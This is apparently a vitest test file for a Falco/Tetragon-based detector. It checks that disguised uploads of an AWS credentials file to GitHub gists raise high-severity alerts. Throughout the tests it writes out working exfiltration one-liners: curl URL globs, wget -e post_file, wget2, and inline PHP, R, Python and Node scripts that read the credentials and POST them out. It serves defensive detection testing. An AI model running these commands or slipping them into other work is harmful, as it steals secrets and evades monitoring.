/**
 * Uploads by curl and wget written so that no URL or upload flag reads as one (red-team review): curl's URL
 * globbing (`https://api.git{hub}.com/gists`, `api.github.[c-c]om`) names the forge only once curl expands
 * it, and wget's `-e`/`--execute` runs `.wgetrc` commands (`-e post_file=FILE`, `-e method=PUT -e
 * body_file=FILE`); an inline script's upload through PHP's curl (`CURLOPT_POSTFIELDS`) or R's httr named no
 * writing verb the recogniser knew, or ran in no interpreter it knew. A credential posted to a gist so raised nothing (a few KiB, far under the egress
 * threshold). Checked as exported Tetragon and Falco JSON lines through the real scan path; kept out of the
 * scenario library (the bench's workload).
 */
import { describe, expect, it } from 'vitest';
import type { SensorForm } from '../../src/scenarios/index.js';
import { briefOf, inlineScenario, runInlineScenario } from './harness.js';

const CREDS = '/home/app/.aws/credentials';

function scenarioOf(name: string, binary: string, args: string, to: string) {
  return inlineScenario(name, { 'api.github.com': '140.82.121.6', 'logs.example.com': '203.0.113.9' }, [
    { at: '1s', exec: { id: 'up', parent: 'app', binary, args, uid: 1000 } },
    { after: '3ms', read: { proc: 'up', path: CREDS, bytes: 234 } },
    { after: '5ms', upload: { proc: 'up', to: `${to}:443`, bytes: '2KiB', over: '300ms' } },
    { after: '10ms', exit: { proc: 'up' } },
  ]);
}

async function alertsOf(name: string, binary: string, args: string, form: SensorForm, to = 'api.github.com') {
  return (await runInlineScenario(scenarioOf(name, binary, args, to), form)).alerts.map(briefOf);
}

const gist = (tool: string) => ({
  rule: 'sensitive-read-then-push',
  severity: 'high',
  tool,
  destination: 'api.github.com',
});

describe('uploads hidden in curl globs and wget commands', () => {
  for (const form of ['tetragon', 'falco'] as const) {
    it(`curl to a globbed forge URL is high (${form})`, async () => {
      const curl = '/usr/bin/curl';
      expect(await alertsOf('curl-glob', curl, `-sd @${CREDS} https://api.git{hub}.com/gists`, form)).toEqual([
        gist('curl'),
      ]);
      expect(await alertsOf('curl-range', curl, `-sd @${CREDS} "https://api.github.[c-c]om/gists"`, form)).toEqual([
        gist('curl'),
      ]);
    });

    it(`wget posting a file through -e is high (${form})`, async () => {
      const wget = '/usr/bin/wget';
      expect(await alertsOf('wget-e', wget, `-q -e post_file=${CREDS} https://api.github.com/gists`, form)).toEqual([
        gist('wget'),
      ]);
      const put = `--execute=method=PUT -e "body-file = ${CREDS}" https://api.github.com/repos/evil/x/contents/k`;
      expect(await alertsOf('wget-execute', wget, put, form)).toEqual([gist('wget')]);
    });

    it(`GNU Wget2 posting a file is high; its download is quiet (${form})`, async () => {
      // Evasion hunt, round 3: Fedora's `wget` is a link to wget2 since Fedora 40, which Falco names by the file
      // it resolves to (Tetragon by the link); run as wget2 in either, no entry knew it.
      const wget2 = '/usr/bin/wget2';
      expect(
        await alertsOf('wget2-post', wget2, `-qO- --post-file=${CREDS} https://api.github.com/gists`, form),
      ).toEqual([gist('wget')]);
      const get = '-q https://api.github.com/repos/acme/app/tarball';
      expect(await alertsOf('wget2-get', wget2, get, form)).toEqual([]);
    });

    it(`an inline PHP curl upload and an R one are high (${form})`, async () => {
      // Found by red-team review: CURLOPT_POSTFIELDS named no writing verb as a word, and R was no interpreter.
      const php = `-r '$c=curl_init("https://api.github.com/gists");curl_setopt($c,CURLOPT_POSTFIELDS,file_get_contents("${CREDS}"));curl_exec($c);'`;
      expect(await alertsOf('php-curl', '/usr/local/bin/php', php, form)).toEqual([gist('php')]);
      const r = `-e 'httr::POST("https://api.github.com/gists", body = httr::upload_file("${CREDS}"))'`;
      expect(await alertsOf('rscript-httr', '/usr/lib/R/bin/Rscript', r, form)).toEqual([gist('Rscript')]);
    });

    it(`an inline upload through the standard library's host-and-path form is high; its GET is quiet (${form})`, async () => {
      // Evasion hunt, round 3: Python's http.client and Node's https.request take the host and the path apart, so
      // no URL was in the script (no dependency needed, what a minimal image has).
      const py = `-c "import http.client as h;c=h.HTTPSConnection('api.github.com');c.request('POST','/gists',open('${CREDS}').read())"`;
      expect(await alertsOf('py-http-client', '/usr/bin/python3', py, form)).toEqual([gist('python')]);
      const js = `-e "require('https').request({host:"api.github.com",path:'/gists',method:'POST'}).end(require('fs').readFileSync('${CREDS}'))"`;
      expect(await alertsOf('node-https-request', '/usr/local/bin/node', js, form)).toEqual([gist('node')]);
      const get = `-c "import http.client as h;c=h.HTTPSConnection('api.github.com');c.request('GET','/repos/acme/app')"`;
      expect(await alertsOf('py-http-client-get', '/usr/bin/python3', get, form)).toEqual([]);
      const logs = `-c "import http.client as h;c=h.HTTPSConnection('logs.example.com');c.request('POST','/in',open('${CREDS}').read())"`;
      expect(await alertsOf('py-http-client-logs', '/usr/bin/python3', logs, form, 'logs.example.com')).toEqual([]);
    });

    it(`a globbed download, a wget setting and an upload elsewhere are quiet (${form})`, async () => {
      const releases = 'https://api.github.com/repos/acme/{app,cli}/releases/latest';
      expect(await alertsOf('curl-glob-get', '/usr/bin/curl', `-fsSL ${releases}`, form)).toEqual([]);
      const robots = '-q -e robots=off -e use_proxy=yes https://api.github.com/repos/acme/app/tarball';
      expect(await alertsOf('wget-e-get', '/usr/bin/wget', robots, form)).toEqual([]);
      const logs = `-e post_file=${CREDS} https://logs.example.com/in`;
      expect(await alertsOf('wget-e-logs', '/usr/bin/wget', logs, form, 'logs.example.com')).toEqual([]);
      const get = `-e 'httr::GET("https://api.github.com/repos/acme/app/releases/latest")'`;
      expect(await alertsOf('rscript-get', '/usr/lib/R/bin/Rscript', get, form)).toEqual([]);
    });
  }
});
